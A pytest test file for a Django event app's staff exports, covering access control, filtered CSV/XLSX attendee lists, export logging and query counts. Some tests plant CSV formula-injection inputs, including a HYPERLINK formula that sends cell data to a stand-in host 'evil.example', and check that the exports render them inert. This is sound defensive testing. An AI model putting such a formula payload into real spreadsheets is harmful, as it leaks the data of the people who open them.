import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from events.models import Event
from participants.models import ExportLog, Registration
from participants.roles import ORGANISER
from tests.factories import (
    CheckInFactory,
    MembershipFactory,
    ParticipantFactory,
    RegistrationFactory,
    SessionFactory,
    StaffUserFactory,
    WorldCafeFactory,
    WorldCafeSeatFactory,
    WorldCafeTableFactory,
)
from tests.participants.staff_data import FIRST_DAY, build_dialogue
from tests.signin import sign_in_staff

pytestmark = pytest.mark.django_db

CSV_URL = "/staff/exports/attendees.csv"
XLSX_URL = "/staff/exports/attendees.xlsx"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'


@pytest.fixture
def dialogue():
    return build_dialogue()


@pytest.fixture
def staff_user():
    return StaffUserFactory(roles=[ORGANISER])


@pytest.fixture
def staff(client, staff_user):
    return sign_in_staff(client, staff_user)


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_the_contract_urls_are_the_exports():
    assert reverse("participants:export", args=["attendees", "csv"]) == CSV_URL
    assert reverse("participants:export", args=["attendees", "xlsx"]) == XLSX_URL
    assert reverse("participants:exports") == "/staff/exports/"
    assert reverse("participants:staff_dashboard") == "/staff/"
    assert reverse("participants:checkin") == "/staff/checkin/"


@pytest.mark.parametrize(
    "url", ["/staff/", "/staff/exports/", CSV_URL, XLSX_URL, "/staff/checkin/"]
)
def test_anonymous_visitors_are_sent_to_sign_in(client, dialogue, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=/staff/")
    assert ExportLog.objects.count() == 0


@pytest.mark.parametrize(
    "url", ["/staff/", "/staff/exports/", CSV_URL, XLSX_URL, "/staff/checkin/"]
)
def test_an_approved_participant_is_forbidden(client, dialogue, url):
    client.force_login(dialogue.ana.participant.user)
    response = client.get(url)
    assert response.status_code == 403
    assert ExportLog.objects.count() == 0


def test_no_export_or_staff_link_is_shown_to_a_participant_or_a_visitor(client, dialogue):
    for page in ["/", "/me/badge/"]:
        assert "/staff/" not in client.get(page, follow=True).content.decode()
    client.force_login(dialogue.ana.participant.user)
    for page in ["/", "/me/badge/"]:
        html = client.get(page).content.decode()
        assert "/staff/" not in html
        assert "attendees.csv" not in html


def test_staff_see_the_staff_link_and_the_export_buttons(staff, dialogue):
    assert 'href="/staff/"' in staff.get("/").content.decode()
    html = staff.get("/staff/exports/").content.decode()
    assert f'formaction="{CSV_URL}"' in html
    assert f'formaction="{XLSX_URL}"' in html


def test_csv_holds_exactly_the_filtered_rows_and_is_logged(staff, staff_user, dialogue):
    response = staff.get(
        CSV_URL,
        {
            "event": dialogue.event.pk,
            "status": "approved",
            "columns": ["name", "organisation", "country"],
        },
    )

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="attendees-')
    assert csv_rows(response) == [
        ["Name", "Organisation", "Country"],
        ["Ana Example", "Ana Example Org", "Costa Rica"],
        ["Cai Example", "Cai Example Org", "United States of America"],
    ]
    log = ExportLog.objects.get()
    assert (log.user, log.kind, log.file_format, log.row_count) == (
        staff_user,
        "attendees",
        "csv",
        2,
    )
    assert log.filters == {
        "event_id": str(dialogue.event.pk),
        "status": "approved",
        "columns": ["name", "organisation", "country"],
    }


def test_xlsx_opens_with_openpyxl_and_holds_the_filtered_rows(staff, dialogue):
    response = staff.get(
        XLSX_URL,
        {"event": dialogue.event.pk, "day": FIRST_DAY.isoformat(), "columns": ["name", "status"]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert xlsx_rows(response) == [
        ["Name", "Status"],
        ["Ana Example", "Approved"],
        ["Ben Example", "Submitted"],
        ["Dee Example", "Declined"],
    ]
    assert ExportLog.objects.get().row_count == 3


@pytest.fixture
def formula_person(dialogue):
    return RegistrationFactory(
        event=dialogue.event,
        type=dialogue.full,
        status=Registration.Status.APPROVED,
        participant=ParticipantFactory(
            badge_name=HYPERLINK, organisation="@SUM(1+1)", dietary_needs="-2+3"
        ),
    )


def test_a_formula_in_a_name_comes_out_inert_in_csv(staff, dialogue, formula_person):
    response = staff.get(
        CSV_URL, {"event": dialogue.event.pk, "columns": ["name", "organisation", "dietary"]}
    )
    rows = csv_rows(response)
    assert ["'" + HYPERLINK, "'@SUM(1+1)", "'-2+3"] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_formula_in_a_name_comes_out_inert_in_xlsx(staff, dialogue, formula_person):
    response = staff.get(
        XLSX_URL, {"event": dialogue.event.pk, "columns": ["name", "organisation"]}
    )
    content = b"".join(response.streaming_content)

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert cells[HYPERLINK].data_type == "s"
    assert cells[HYPERLINK].quotePrefix is True  # Excel's "quoted text"
    assert cells["@SUM(1+1)"].data_type == "s"


def test_bad_filters_are_refused_with_a_message_and_no_file(staff, dialogue):
    response = staff.get(CSV_URL, {"status": "maybe", "country": "XX"})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Status: Select a valid choice." in html
    assert "Country: Select a valid choice." in html
    assert ExportLog.objects.count() == 0


def test_the_exports_page_counts_the_matching_registrations(staff, dialogue):
    response = staff.get("/staff/exports/", {"event": dialogue.event.pk, "sector": "government"})
    assert "1 registration matches." in response.content.decode()


@pytest.mark.parametrize(
    "kind, params, expected_first_row",
    [
        ("badges", {}, ["Ana Example", "Ana Example Org", "Costa Rica", "Full Dialogue"]),
        (
            "catering",
            {"day": "2024-06-03"},
            ["2024-06-03", "Ana Example", "Ana Example Org", "Vegan"],
        ),
        ("accessibility", {}, ["Cai Example", "Cai Example Org", "United States of America"]),
    ],
)
def test_ready_made_lists_download_in_both_formats(
    staff, dialogue, kind, params, expected_first_row
):
    query = {"event": dialogue.event.pk, **params}
    rows = csv_rows(staff.get(f"/staff/exports/{kind}.csv", query))
    assert rows[1][: len(expected_first_row)] == expected_first_row
    sheet = xlsx_rows(staff.get(f"/staff/exports/{kind}.xlsx", query))
    assert [str(value) for value in sheet[1][: len(expected_first_row)]] == expected_first_row
    assert list(ExportLog.objects.values_list("kind", "file_format")) == [
        (kind, "xlsx"),
        (kind, "csv"),
    ]


def test_group_list_needs_a_group_and_unknown_lists_do_not_exist(staff, dialogue):
    assert staff.get("/staff/exports/group.csv").status_code == 400
    rows = csv_rows(staff.get("/staff/exports/group.csv", {"group": dialogue.group.pk}))
    assert rows[1][0] == "Ana Example"
    assert staff.get("/staff/exports/passwords.csv").status_code == 404


def add_people(dialogue, n: int) -> None:
    for _ in range(n):
        RegistrationFactory(event=dialogue.event, type=dialogue.full, status="approved")


ALL_COLUMNS = [
    "name",
    "email",
    "organisation",
    "sector",
    "country",
    "subregion",
    "type",
    "status",
    "days",
    "groups",
    "language",
    "languages",
    "dietary",
    "accessibility",
    "registered_at",
    "checked_in",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_queries_do_not_grow_with_the_list(
    staff, dialogue, django_assert_max_num_queries, fmt
):
    query = {"event": dialogue.event.pk, "columns": ALL_COLUMNS}
    counts = []
    for extra in (0, 25):
        add_people(dialogue, extra)
        Event.objects.current()  # cached per content version; each round has just written
        with django_assert_max_num_queries(12) as captured:
            response = staff.get(f"/staff/exports/attendees.{fmt}", query)
            rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
        counts.append(len(captured))
        assert len(rows) == 1 + 4 + extra
    assert counts[0] == counts[1]


def test_exports_page_queries_do_not_grow(staff, dialogue, django_assert_max_num_queries):
    counts = []
    for extra in (0, 25):
        add_people(dialogue, extra)
        with django_assert_max_num_queries(20) as captured:
            assert staff.get("/staff/exports/", {"event": dialogue.event.pk}).status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1]


@pytest.mark.parametrize(
    "kind", ["attendance", "catering", "accessibility", "badges", "world-cafe", "group", "session"]
)
def test_ready_made_list_queries_do_not_grow(staff, dialogue, django_assert_max_num_queries, kind):
    cafe = WorldCafeFactory(session__event=dialogue.event, session__day=dialogue.days[2])
    table = WorldCafeTableFactory(cafe=cafe)
    session = SessionFactory(event=dialogue.event, day=dialogue.days[0])
    query = {"event": dialogue.event.pk, "group": dialogue.group.pk, "session": session.pk}
    counts = []
    for extra in (0, 12):
        for _ in range(extra):
            registration = RegistrationFactory(
                event=dialogue.event,
                type=dialogue.full,
                status="approved",
                participant__dietary_needs="Vegan",
                participant__accessibility_needs="Ramp",
            )
            CheckInFactory(registration=registration, day=FIRST_DAY)
            MembershipFactory(participant=registration.participant, group=dialogue.group)
            WorldCafeSeatFactory(table=table, participant=registration.participant)
        Event.objects.current()  # cached per content version; each round has just written
        with django_assert_max_num_queries(12) as captured:
            rows = csv_rows(staff.get(f"/staff/exports/{kind}.csv", query))
        counts.append(len(captured))
        assert len(rows) > extra
    assert counts[0] == counts[1]
